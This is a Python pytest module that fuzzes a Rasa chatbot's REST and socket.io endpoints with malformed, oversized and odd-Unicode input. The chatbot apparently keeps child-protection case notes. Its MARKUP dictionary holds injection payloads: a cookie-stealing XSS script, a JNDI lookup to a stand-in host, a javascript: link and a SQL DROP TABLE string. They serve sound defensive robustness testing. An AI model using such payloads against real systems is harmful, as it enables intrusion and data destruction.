"""Bad input over HTTP: the REST channel and the socket.io endpoint get empty bodies,
malformed JSON, wrong types, a 1 MB message, random bytes, odd Unicode and markup.

Every answer is a clear 4xx or a normal reply, never a server error; afterwards the
server still answers, and a conversation opened before the barrage - much of which was
aimed at it - still has its case state in the tracker and every earlier case note in
the store, unchanged.
"""
from __future__ import annotations

import json
import random
import uuid

import pytest
import requests

import stack as stack_module
from support import ROOT, Chat, texts

# The project's REST channel (rasa_plugins/rest_channel.py, when credentials.yml uses it)
# checks the body before Rasa sees it; Rasa's stock RestInput calls .get() on whatever the
# body parsed to and answers 500 for a body that is not a JSON object.
OWN_REST_CHANNEL = "rest_channel" in (ROOT / "credentials.yml").read_text()
STOCK_500 = ("Rasa 3.6 RestInput: request.json.get() on a body that is not a JSON object "
             "raises AttributeError -> HTTP 500; the project's REST channel answers 400")

MB = 1024 * 1024
RNG = random.Random(20261125)
BINARY = bytes(RNG.getrandbits(8) for _ in range(64 * 1024))
ODD_TEXTS = {
    "rtl-override": "he said \u202eruoh na\u202c to pay",
    "zero-width": "sh\u200be is 1\u200d4 \u2060and \ufeffscared",
    "emoji-zwj": "👩‍👧‍👦🏳️‍🌈🇬🇧 she sent 😢😢",
    "combining": "Z\u0351\u0352\u0353a\u0354\u0355l\u0356\u0357g\u0358o" * 50,
    "control": "line1\x00line2\x07\x1b[2J\x08\r\n\x85\u2028end",
    "mixed-scripts": "مرحبا שלום 他说 Привет İß ﬁ Ǆ",
    "noncharacters": "\uffff\ufffe\U0010ffff",
}
MARKUP = {
    "script": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "html-comment": "]]><!-- --><![CDATA[x]]>",
    "template": "{{7*7}} ${7*7} {% raw %} #{7*7} ${jndi:ldap://example.invalid/a}",
    "markdown": "[click](javascript:alert(1)) ![x](http://example.invalid/x.png) **bold**",
    "sql": "'; DROP TABLE case_events; --",
    "format": "%s%s%s%n %(message)s {0} {message}",
}


def url(stack) -> str:
    return f"{stack.rasa_url}/webhooks/rest/webhook"


def auth(stack) -> dict[str, str]:
    return {"Authorization": f"Bearer {stack_module.admin_token(stack.secret)}"}


def post(stack, *, data: bytes | str | None = None, payload=None,
         content_type: str = "application/json") -> requests.Response:
    body = json.dumps(payload).encode() if payload is not None else data
    headers = {**auth(stack), "Content-Type": content_type}
    return requests.post(url(stack), data=body, headers=headers, timeout=120)


def assert_clear_answer(r: requests.Response) -> None:
    """A 4xx with a body, or a 200 with the channel's reply list: never a server error."""
    if r.status_code == 500 and not OWN_REST_CHANNEL:
        pytest.xfail(STOCK_500)
    assert r.status_code < 500, f"{r.status_code}: {r.text[:300]}"
    if r.status_code == 200:
        assert isinstance(r.json(), list)
    else:
        assert 400 <= r.status_code < 500 and r.content


@pytest.fixture(scope="module")
def before(stack):
    """A conversation with a case, a red flag, a deadline and a note, before the fuzz."""
    from actions.casenotes import CaseStore

    chat = Chat(stack, f"fuzz-target-{uuid.uuid4().hex[:8]}")
    chat.say('/start_case{"caller_role":"child"}')
    chat.say("he gave her an hour or he posts them, and it's her cousin")
    chat.say("add note: she is 14 and has told her older sister")
    slots = chat.slots()
    assert slots["case_id"] and slots["deadline_at"] and "offender_known" in slots["red_flags"]
    notes = CaseStore().events(slots["case_id"])
    assert any(e["kind"] == "note" and e["text"] == "she is 14 and has told her older sister"
               for e in notes)
    return chat, slots, notes


# --- REST channel -----------------------------------------------------------------------------

MALFORMED = {
    "empty": b"",
    "whitespace": b"  \n ",
    "truncated": b'{"sender": "fuzz", "message": "he gave',
    "not-json": b"sender=fuzz&message=hello",
    "trailing-comma": b'{"sender": "fuzz", "message": "hi",}',
    "single-quotes": b"{'sender': 'fuzz', 'message': 'hi'}",
    "nan": b'{"sender": "fuzz", "message": NaN}',
    "deep-nesting": b"[" * 100_000 + b"]" * 100_000,
    "bad-utf8": b'{"sender": "fuzz", "message": "\xc0\xaf\xff\xfe"}',
    "utf16": '{"sender": "fuzz", "message": "hi"}'.encode("utf-16"),
    "binary": BINARY,
}


@pytest.mark.parametrize("name", MALFORMED)
def test_a_body_that_is_not_json_gets_a_clear_answer(stack, name):
    assert_clear_answer(post(stack, data=MALFORMED[name]))


@pytest.mark.parametrize("content_type", ["application/octet-stream", "text/plain",
                                          "multipart/form-data; boundary=x"])
def test_binary_with_other_content_types_gets_a_clear_answer(stack, content_type):
    r = post(stack, data=BINARY, content_type=content_type)
    assert_clear_answer(r)


WRONG_SHAPES = {
    "top-level-list": ["fuzz", "hello"],
    "top-level-string": "hello",
    "top-level-number": 42,
    "top-level-null": None,
    "no-sender": {"message": "hello"},
    "sender-number": {"sender": 12345, "message": "hello"},
    "sender-list": {"sender": ["a", "b"], "message": "hello"},
    "sender-object": {"sender": {"id": "x"}, "message": "hello"},
    "sender-empty": {"sender": "", "message": "hello"},
}


@pytest.mark.parametrize("name", WRONG_SHAPES)
def test_a_body_of_the_wrong_shape_is_refused_with_4xx(stack, name):
    payload = WRONG_SHAPES[name]
    r = post(stack, data=b"null") if payload is None else post(stack, payload=payload)
    if not OWN_REST_CHANNEL and r.status_code == 500:
        pytest.xfail(STOCK_500)
    if not OWN_REST_CHANNEL and r.status_code == 200:
        pytest.xfail(f"Rasa 3.6 RestInput accepts a sender that is not a non-empty string "
                     f"(missing: conversation 'default'); got {r.text[:120]}")
    assert 400 <= r.status_code < 500, f"{r.status_code}: {r.text[:300]}"


@pytest.mark.parametrize("message", [123, 4.5, True, None, [], ["hello"], {"text": "hello"}],
                         ids=["int", "float", "bool", "null", "empty-list", "list", "object"])
def test_a_message_that_is_not_text_never_breaks_the_conversation(stack, before, message):
    chat, _, _ = before
    r = post(stack, payload={"sender": chat.id, "message": message})
    assert_clear_answer(r)


@pytest.mark.parametrize("extra", [
    {"metadata": "not an object"}, {"metadata": {"x": "y" * 10_000}}, {"metadata": [1, 2]},
    {"input_channel": ["rest"]}, {"input_channel": 7},
], ids=["metadata-string", "metadata-big", "metadata-list", "channel-list", "channel-int"])
def test_odd_optional_fields_get_a_clear_answer(stack, extra):
    r = post(stack, payload={"sender": f"fuzz-{uuid.uuid4().hex[:8]}",
                             "message": "what next?", **extra})
    assert_clear_answer(r)


def test_a_one_megabyte_message_gets_a_clear_answer_and_the_server_goes_on(stack):
    sender = f"fuzz-big-{uuid.uuid4().hex[:8]}"
    note = ("he gave her an hour " + "x" * 60 + " ") * (MB // 80 + 1)
    r = post(stack, payload={"sender": sender, "message": note[:MB]})
    assert r.status_code != 500, r.text[:300]
    if OWN_REST_CHANNEL:  # refused before the NLU sees it, with a message to show
        assert r.status_code == 413 and "too long" in r.json()["error"], r.text[:300]
    after = Chat(stack, sender).say("what next?")
    assert texts(after), "the conversation still answers after a huge message"
    refused = 400 <= r.status_code < 500
    answered = r.status_code == 200 and texts(r.json())
    if not (refused or answered):
        pytest.xfail(f"HTTP {r.status_code} {r.text[:80]!r}: Rasa's NLU pipeline fails on a "
                     "1 MB message (GraphComponentException in the Rasa log) after about 20 s "
                     "of blocking the server (100 kB: 20 s, answered); the channels should "
                     "refuse over-long messages with 413")


@pytest.mark.parametrize("name", list(ODD_TEXTS) + list(MARKUP))
def test_odd_unicode_and_markup_get_a_normal_reply_and_are_kept_as_typed(stack, before, name):
    from actions.casenotes import CaseStore

    chat, slots, _ = before
    text = {**ODD_TEXTS, **MARKUP}[name]
    replies = chat.say(f"add note: {text}")
    assert texts(replies), "a reply"
    assert not any("NOT being saved" in t for t in texts(replies))
    notes = [e["text"] for e in CaseStore().events(slots["case_id"]) if e["kind"] == "note"]
    assert any(text.strip() in n for n in notes), "the note is stored as typed"


def test_a_lone_surrogate_in_json_gets_a_clear_answer_and_never_blocks_the_notes(stack):
    """JSON may escape half a UTF-16 pair ("\\ud800"); it decodes to a string that cannot be
    encoded as UTF-8. It must not stop later notes from being saved."""
    chat = Chat(stack, f"fuzz-surrogate-{uuid.uuid4().hex[:8]}")
    chat.say('/start_case{"caller_role":"child"}')
    body = b'{"sender": "%s", "message": "add note: half a pair \\ud800 here"}' % chat.id.encode()
    r = post(stack, data=body)
    assert_clear_answer(r)
    replies = chat.say("add note: she is safe at home now")
    assert not any("NOT being saved" in t for t in texts(replies)), texts(replies)
    assert "Noted in the case record." in texts(replies)


# --- socket.io --------------------------------------------------------------------------------

def socketio(stack, query: str = "EIO=4&transport=polling") -> str:
    return f"{stack.rasa_url}/socket.io/?{query}"


@pytest.mark.parametrize("query", [
    "EIO=4&transport=polling&sid=not-a-session",
    "EIO=99&transport=polling", "EIO=4&transport=carrier-pigeon", "", "EIO=4&transport=websocket",
    "EIO=4&transport=polling&t=" + "%00%ff" * 1000,
])
def test_socketio_garbage_queries_get_a_clear_answer(stack, query):
    r = requests.get(socketio(stack, query), timeout=30)
    assert r.status_code < 500, f"{r.status_code}: {r.text[:300]}"


@pytest.mark.parametrize("body", [
    b"", BINARY[:4096], b"4", b"42", b'42["user_uttered"', b'42["user_uttered", "text"]',
    b'42["user_uttered", {"message": 123, "session_id": ["x"]}]',
    b'42["user_uttered", {"message": "' + b"x" * (MB // 2) + b'"}]',
    b'42["session_request", 7]', b'42["no_such_event", {}]', b"\x1e\x1e\x1e",
], ids=["empty", "binary", "bare-message", "bare-event", "truncated", "text-data",
        "wrong-types", "half-megabyte", "session-number", "unknown-event", "separators"])
def test_socketio_garbage_packets_get_a_clear_answer_and_the_server_goes_on(stack, body):
    opened = requests.get(socketio(stack), timeout=30)
    assert opened.status_code == 200 and opened.text.startswith("0")
    sid = json.loads(opened.text[1:])["sid"]
    session_url = socketio(stack, f"EIO=4&transport=polling&sid={sid}")
    connect = requests.post(session_url, data=b"40", timeout=30)
    assert connect.status_code < 500
    r = requests.post(session_url, data=body, timeout=30,
                      headers={"Content-Type": "text/plain;charset=UTF-8"})
    assert r.status_code < 500, f"{r.status_code}: {r.text[:300]}"
    assert requests.get(f"{stack.rasa_url}/", timeout=30).status_code == 200


# --- afterwards -------------------------------------------------------------------------------

def test_after_the_fuzz_the_earlier_conversation_is_intact(stack, before):
    """Runs last in this module (pytest keeps file order)."""
    from actions.casenotes import CaseStore

    chat, slots, notes = before
    now = chat.slots()
    assert now["case_id"] == slots["case_id"]
    assert now["caller_role"] == slots["caller_role"] == "child"
    assert now["deadline_at"] == slots["deadline_at"]
    assert set(slots["red_flags"]) <= set(now["red_flags"])
    stored = CaseStore().events(slots["case_id"])
    assert stored[:len(notes)] == notes, "earlier case notes unchanged, in order"
    replies = chat.say("summary")
    summary = "\n".join(texts(replies))
    assert "she is 14 and has told her older sister" in summary
